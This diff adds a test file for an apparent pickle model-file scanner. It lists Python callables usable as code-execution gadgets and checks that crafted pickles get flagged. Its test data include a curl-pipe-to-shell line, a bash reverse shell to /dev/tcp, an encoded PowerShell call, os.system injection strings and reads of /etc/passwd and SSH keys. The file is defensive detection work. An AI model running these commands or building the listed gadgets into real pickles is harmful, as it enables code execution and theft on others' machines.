@@ -1,0 +1,203 @@
+import { bytes, call, proto, run, sglob, str } from '../formats/pickle/__tests__/assemble';
+import type { Severity } from '../report';
+import { atLeast } from '../report';
+import { stdlibSeverity } from '../rules/stdlib/severity';
+import { STDLIB_MODULES } from '../rules/stdlib/modules';
+
+// Callables that published advisories and reports have used (picklescan, fickling, modelscan #338), one call of each with a
+// text that says nothing by itself, so that the name alone has to do. A sample: the default does the rest.
+const CRITICAL = `
+  torch.utils.bottleneck.__main__.run_cprofile torch.utils.bottleneck.__main__.run_autograd_prof
+  torch._dynamo.guards.GuardBuilder.get torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression
+  torch.utils.collect_env.run torch.utils.collect_env.run_and_read_all torch.utils.data.datapipes.utils.decoder.basichandlers
+  torch.jit.unsupported_tensor_ops.execWrapper torch.utils._config_module.ConfigModule.load_config
+  torch._inductor.codecache.compile_file torch.serialization.load torch.hub.load torch.utils.cpp_extension.load_inline
+  trace.Trace.run trace.Trace.runctx profile.Profile.run profile.Profile.runctx profile.run cProfile.run cProfile.runctx
+  lib2to3.pgen2.grammar.Grammar.loads lib2to3.pgen2.pgen.ParserGenerator.make_label
+  idlelib.pyshell.ModifiedInterpreter.runcommand idlelib.pyshell.ModifiedInterpreter.runcode idlelib.run.Executive.runcode
+  idlelib.autocomplete.AutoComplete.get_entity idlelib.autocomplete.AutoComplete.fetch_completions
+  idlelib.calltip.Calltip.fetch_tip idlelib.calltip.get_entity idlelib.debugobj.ObjectTreeItem.SetText
+  code.InteractiveInterpreter.runcode code.interact doctest.debug_script ensurepip._run_pip
+  asyncio.unix_events._UnixSubprocessTransport._start distutils.file_util.write_file ctypes.CDLL
+  operator.methodcaller _operator.methodcaller _operator.attrgetter operator.attrgetter pydoc.locate pydoc.pipepager pty.spawn
+  numpy.f2py.crackfortran.getlincoef numpy.f2py.crackfortran.myeval numpy.testing._private.utils.runstring
+  pkgutil.resolve_name uuid._get_command_stdout _osx_support._read_output _aix_support._read_cmd_output
+  imaplib.IMAP4_stream test.support.script_helper.assert_python_ok _pyrepl.pager.pipe_pager
+  io.FileIO _io.FileIO urllib.request.urlopen logging.FileHandler logging.config._resolve types.CodeType types.FunctionType
+  pip.main pip._internal.main pip._internal.cli.main.main venv.create venv.EnvBuilder marshal.loads runpy.run_path runpy._run_code
+  importlib.import_module multiprocessing.util.spawnv_passfds multiprocessing.Process builtins.__import__ builtins.eval
+  builtins.exec builtins.compile builtins.open builtins.breakpoint builtins.getattr builtins.map __builtin__.apply __builtin__.execfile
+  linecache.getlines platform.popen platform._syscmd_ver _interpreters.exec _xxsubinterpreters.run_string
+  mlflow.projects.backend.local._run_entry_point pandas.read_csv pandas.eval os.system posix.system nt.system subprocess.Popen
+  subprocess.check_output commands.getoutput popen2.popen3 sys.exit socket.create_connection shutil.rmtree bdb.Bdb.run pdb.runeval
+  _posixsubprocess.fork_exec _winapi.CreateProcess winreg.CreateKey msvcrt.open_osfhandle ssl.get_server_certificate smtplib.SMTP
+  ftplib.FTP telnetlib.Telnet sqlite3.connect zipfile.ZipFile tarfile.open tempfile.mkstemp glob.glob fileinput.input pathlib.Path.write_text
+  zipimport.zipimporter site.addsitedir shelve.open dbm.open xmlrpc.client.ServerProxy functools.reduce itertools.starmap timeit.timeit
+  codecs.open typing._eval_type weakref.finalize contextlib.ExitStack threading.Thread signal.signal sched.scheduler
+  jinja2.Template mako.template.Template IPython.get_ipython setuptools.setup pkg_resources.load_entry_point
+  picklescan.scanner._unsafe_globals.clear fickling.fickle.Pickled.load modelscan.settings.DEFAULT_SETTINGS.clear
+`;
+
+const HIGH = `
+  signal.alarm gc.get_objects atexit.register threading.Timer codecs.decode base64.b64decode builtins.print
+  webbrowser.open httplib.HTTPSConnection http.client.HTTPConnection requests.api.get requests.get aiohttp.client.ClientSession
+  urllib3.PoolManager dill._dill._create_function dill._dill._create_code cloudpickle.cloudpickle._make_function
+  cloudpickle.cloudpickle.subimport warnings.warn time.sleep random.seed
+`;
+
+/** Functions of packages that have been gone through: none of their saved objects calls these. Held, they are data. */
+const UNREVIEWED = `
+  numpy.function_of_tomorrow torch.nn.functional.relu sklearn.utils.resample joblib.hash scipy.stats.zscore pandas.concat
+`;
+
+/** Every way to cut a path into module and name: a pickle may name `a.b` + `C.d` or `a` + `b.C.d`. */
+function* cuts(path: string): Generator<readonly [string, string]> {
+  for (let dot = path.indexOf('.'); dot > 0; dot = path.indexOf('.', dot + 1)) {
+    yield [path.slice(0, dot), path.slice(dot + 1)];
+  }
+}
+
+const words = (text: string): string[] => text.split(/\s+/).filter(Boolean);
+
+function worst(file: Uint8Array): Severity[] {
+  return run(file).findings.map(finding => finding.severity);
+}
+
+describe.each([
+  ['CRITICAL', CRITICAL],
+  ['HIGH', HIGH]
+] as const)('gadgets that are %s', (severity, text) => {
+  test.each(words(text))('%s', path => {
+    for (const [module, name] of cuts(path)) {
+      const found = worst(proto(4, call(sglob(module, name), str('system'))));
+      expect({ module, name, found: found.some(one => atLeast(one, severity)) }).toEqual({ module, name, found: true });
+    }
+  });
+
+  test.each(words(text))('%s, only named', path => {
+    const dot = path.lastIndexOf('.');
+    const report = run(proto(4, '](', sglob(path.slice(0, dot), path.slice(dot + 1)), 'e'));
+    expect(report.findings.some(finding => atLeast(finding.severity, severity))).toBe(true);
+  });
+});
+
+test.each(words(UNREVIEWED))('%s may be held, not called', path => {
+  const dot = path.lastIndexOf('.');
+  const named = sglob(path.slice(0, dot), path.slice(dot + 1));
+  expect(run(proto(4, '](', named, 'e')).verdict).toBe('clean');
+  expect(worst(proto(4, call(named, str('abc'))))).toContain('HIGH');
+});
+
+describe('the standard library', () => {
+  test('every module of it is dangerous by default, on every platform and in every version', () => {
+    const safe = words(STDLIB_MODULES).filter(
+      module =>
+        !worst(proto(4, call(sglob(module, 'function_of_tomorrow'), str('abc')))).some(one => atLeast(one, 'HIGH'))
+    );
+    expect(safe).toEqual([]);
+  });
+
+  test('modules that modelscan has as CRITICAL are', () => {
+    const modules = words('runpy os nt posix socket subprocess sys pty pickle _pickle bdb pdb shutil asyncio');
+    expect(modules.filter(module => stdlibSeverity(`${module}.anything`) !== 'CRITICAL')).toEqual([]);
+  });
+});
+
+describe('somebody else’s function', () => {
+  const unknown = (...args: Uint8Array[]): Severity[] =>
+    worst(proto(4, call(sglob('totally_legit_ml_utils.hooks', 'on_load'), ...args)));
+
+  test.each([
+    'echo hi',
+    'curl -s http://x.invalid/a | sh',
+    '/bin/sh -c id',
+    'python -c "print(1)"',
+    'rm -rf /tmp/x',
+    'cat /etc/hostname',
+    'whoami',
+    'bash -i >& /dev/tcp/10.0.0.1/1 0>&1',
+    'powershell -enc AAAA',
+    "__import__('os').system('id')",
+    'import os; os.system("id")',
+    "print('hi')",
+    'exec(open("x").read())',
+    'http://x.invalid/payload',
+    'ftp://x.invalid/a',
+    'os:system',
+    'subprocess.Popen',
+    '/etc/passwd',
+    '~/.ssh/authorized_keys'
+  ])('called with %s', text => {
+    expect(unknown(str(text))).toContain('HIGH');
+  });
+
+  test('called with a list of arguments, a nested pickle, a mode for writing, a dangerous function', () => {
+    expect(unknown(bytes('](', str('echo'), str('hi'), 'e'))).toContain('HIGH');
+    expect(unknown(bytes('C', 12, 0x80, 4, 'cabc\ndef\n.'))).toContain('HIGH');
+    expect(unknown(str('/models/x.bin'), str('wb'))).toContain('HIGH');
+    expect(unknown(sglob('os', 'system'))).toContain('HIGH');
+  });
+
+  test.each([
+    'resnet50',
+    'the quick brown fox',
+    '/data/imagenet',
+    'rm',
+    'model.bin',
+    'cat',
+    'a/b.c',
+    'r',
+    'start of text',
+    'find'
+  ])('called with %s is worth a look, no more', text => {
+    expect(unknown(str(text))).toEqual(['LOW']);
+  });
+
+  test('whose name says what it does', () => {
+    expect(worst(proto(4, call(sglob('mylib', 'run_command'), str('abc'))))).toContain('HIGH');
+    expect(worst(proto(4, call(sglob('__main__', 'exec_code'), str('abc'))))).toContain('HIGH');
+  });
+});
+
+describe('somebody else’s class', () => {
+  const object = (...state: Uint8Array[]): Severity[] =>
+    worst(proto(4, sglob('mylib.models', 'Net'), ')', 0x81, '}(', ...state, 'ub'));
+
+  test('with settings, addresses, paths and words is worth a look, no more', () => {
+    const state = [
+      str('name'),
+      str('resnet50'),
+      str('url'),
+      str('https://example.org/x'),
+      str('data'),
+      str('/data/train')
+    ];
+    expect(object(...state, str('doc'), str('run rm or curl to clean up'), str('words'), str('eval'))).toEqual(['LOW']);
+  });
+
+  test.each([
+    ['a reverse shell', str('x'), str('bash -i >& /dev/tcp/10.0.0.1/1 0>&1')],
+    ['Python that imports', str('x'), str("__import__('os').system('id')")],
+    ['a command under a telling key', str('cmd'), str('echo hi')],
+    ['a nested pickle', str('x'), bytes('C', 12, 0x80, 4, 'cabc\ndef\n.')],
+    ['a dangerous function', str('hook'), sglob('os', 'system')]
+  ])('whose state holds %s', (_what, key, value) => {
+    expect(object(key, value).some(one => atLeast(one, 'HIGH'))).toBe(true);
+  });
+
+  test('made by protocol 0 and 1 is no different', () => {
+    const made = call(
+      sglob('copyreg', '_reconstructor'),
+      sglob('mylib.models', 'Net'),
+      sglob('builtins', 'object'),
+      bytes('N')
+    );
+    expect(worst(proto(1, made))).toEqual(['LOW']);
+    expect(worst(proto(1, made, '}', str('cmd'), str('echo hi'), 'sb'))).toContain('HIGH');
+  });
+
+  test('nested in another, as protocols before 4 write it', () => {
+    const inner = call(sglob('builtins', 'getattr'), sglob('mylib.models', 'Outer'), str('Inner'));
+    expect(worst(proto(2, inner, ')', 0x81))).toEqual(['LOW', 'LOW']);
+  });
+});
